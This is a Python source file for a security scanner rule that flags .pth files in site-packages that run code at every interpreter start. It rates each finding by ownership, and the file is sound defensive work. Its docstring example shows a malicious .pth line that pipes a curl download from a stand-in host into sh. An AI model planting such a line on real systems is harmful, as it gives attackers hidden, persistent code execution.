"""E201: a `.pth` file with code that runs at every interpreter start."""

from __future__ import annotations

from collections.abc import Iterator

from bastion.env.facts import EnvFacts
from bastion.env.rule import REGISTRY, env_rule
from bastion.findings import Finding, Location, Severity


@env_rule(
    "E201",
    "pth-code",
    severity=Severity.HIGH,
    cwe=94,
    references=("https://docs.python.org/3/library/site.html",),
)
def pth_code(facts: EnvFacts) -> Iterator[Finding]:
    """A `.pth` file in site-packages holds a line that runs at every interpreter start.

    ## What it does
    Reads every `.pth` file of the target's site directories, in the order `site` reads
    them, and reports each line `site` would execute (one starting with `import`), with
    file, line and code. No RECORD owns the file: high. A distribution's RECORD owns it:
    medium. A known benign file (setuptools' `distutils-precedence.pth`, editable-install
    finders `__editable__.*.pth`, namespace shims `*-nspkg.pth`, coverage's and pywin32's
    hooks, virtualenv's `_virtualenv.pth`) owned as expected: low.

    ## Why is this bad?
    Code in a `.pth` file runs before the program, in every process of the interpreter,
    even `python -c pass` and pip itself. It is a known way for a malicious package to keep
    running without being imported: nothing names it, and few people read site-packages.

    ## Example
    ```text
    # site-packages/zz_hook.pth, listed in no RECORD
    import os; os.system("curl https://example.invalid/x | sh")
    ```

    ## Use instead
    ```sh
    rm site-packages/zz_hook.pth    # then find out what put it there
    ```
    """
    for pth in facts.pth_files:
        for line in pth.code:
            if line.benign:
                severity, why = Severity.LOW, f"a known benign file of {line.owner or 'virtualenv'}"
            elif line.owner is not None:
                severity, why = Severity.MEDIUM, f"installed by {line.owner}"
            else:
                severity, why = Severity.HIGH, "no RECORD or system package lists it"
            code = line.code if len(line.code) <= 160 else line.code[:157] + "..."
            yield RULE.finding(
                f"{pth.path.name} runs code at every start ({why}): {code}",
                location=Location(str(line.path), line.line),
                severity=severity,
                fix="remove the file if nothing you installed needs it; find out what put it there",
                key=f"{line.path}:{line.line}",
            )


RULE = REGISTRY["E201"]
